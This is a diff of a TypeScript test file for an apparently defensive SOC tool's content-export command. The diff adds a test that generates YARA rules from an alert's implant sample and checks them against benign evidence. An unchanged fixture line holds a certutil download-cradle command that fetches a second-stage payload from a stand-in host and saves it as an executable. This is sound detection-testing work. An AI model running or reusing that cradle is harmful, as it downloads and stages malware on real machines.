@@ -8,7 +8,10 @@ import { run } from '../../src/cli/main';
 import { compileSigmaRule } from '../../src/content/sigma/matcher';
 import { parseAlert } from '../../src/domain/alert';
 import { extractObservables } from '../../src/domain/observables';
+import { compile } from '@litko/yara-x';
 import { upsertAlert } from '../../src/store/alerts';
+import { linkEvidence, storeEvidence } from '../../src/store/evidence';
+import { IMPLANT_STRINGS, implantSample } from '../content/samples';
 import { appendAudit } from '../../src/store/decisions';
 import { CORPUS_DIR } from '../helpers/corpus';
 import { openTestDatabase, type TestDatabase } from '../helpers/database';
@@ -17,7 +20,7 @@ import { openTestDatabase, type TestDatabase } from '../helpers/database';
 const COMMAND = 'certutil.exe -urlcache -split -f https://dl.badcdn-example.net/stage2.bin C:\\Users\\jdoe\\AppData\\Local\\Temp\\stage2.exe';
 
 let db: TestDatabase;
-const ids = { approved: `alert:edr:content-${process.pid}-a`, pending: `alert:edr:content-${process.pid}-p` };
+const ids = { approved: `alert:edr:content-${process.pid}-a`, pending: `alert:edr:content-${process.pid}-p`, benign: `alert:edr:content-${process.pid}-b` };
 
 beforeAll(async () => {
   db = await openTestDatabase();
@@ -33,6 +36,10 @@ beforeAll(async () => {
     await upsertAlert(db.pool, id, alert, extractObservables(alert));
     if (key === 'approved') await appendAudit(db.pool, { workflowId: id, step: 'decision:1', action: 'approve', actor: 'alice', reason: 'confirmed download cradle' });
   }
+  await linkEvidence(db.pool, ids.approved, await storeEvidence(db.pool, { kind: 'sample', mediaType: 'application/vnd.microsoft.portable-executable', name: 'stage2.exe', content: implantSample() }));
+  // A file triage judged benign that holds one of the implant's strings: that string is no longer distinctive.
+  await db.pool.query("UPDATE alerts SET verdict = 'benign' WHERE workflow_id = $1", [ids.benign]);
+  await linkEvidence(db.pool, ids.benign, await storeEvidence(db.pool, { kind: 'file', mediaType: 'text/plain', name: 'proxy.log', content: Buffer.from(`GET ${IMPLANT_STRINGS.url}42 200\n`) }));
 });
 afterAll(() => db.close());
 
@@ -84,6 +91,19 @@ describe('autosoc content export', () => {
     expect(event.Event.info).not.toMatch(/ws-0142/);
   });
 
+  it('writes YARA rules from the alert\'s samples, checked against the corpus and benign evidence', async () => {
+    const dir = mkdtempSync(join(tmpdir(), 'content-yara-'));
+    const r = await cli(['--json', 'content', 'export', ids.approved, '--format', 'yara', '--dir', dir]);
+    expect(r.err).toBe('');
+    expect(r.code).toBe(0);
+    const { files } = JSON.parse(r.out) as { files: string[] };
+    expect(files).toHaveLength(1);
+    const source = readFileSync(files[0], 'utf8');
+    expect(source).toContain(IMPLANT_STRINGS.agent);
+    expect(source).not.toContain('gate.php'); // in a benign alert's evidence
+    expect(compile(source).scan(implantSample())).toHaveLength(1);
+  });
+
   it('refuses an alert that is neither approved nor malicious, and an unknown one', async () => {
     const dir = mkdtempSync(join(tmpdir(), 'content-refused-'));
     const pending = await cli(['content', 'export', ids.pending, '--format', 'sigma', '--dir', dir]);
@@ -91,6 +111,6 @@ describe('autosoc content export', () => {
     expect(pending.err).toMatch(/neither analyst-approved nor judged malicious/);
     const unknown = await cli(['content', 'export', 'alert:edr:nope', '--format', 'stix', '--dir', dir]);
     expect(unknown.err).toMatch(/no alert alert:edr:nope/);
-    expect((await cli(['content', 'export', ids.approved, '--format', 'yara', '--dir', dir])).err).toMatch(/--format must be one of/);
+    expect((await cli(['content', 'export', ids.approved, '--format', 'pdf', '--dir', dir])).err).toMatch(/--format must be one of/);
   });
 });
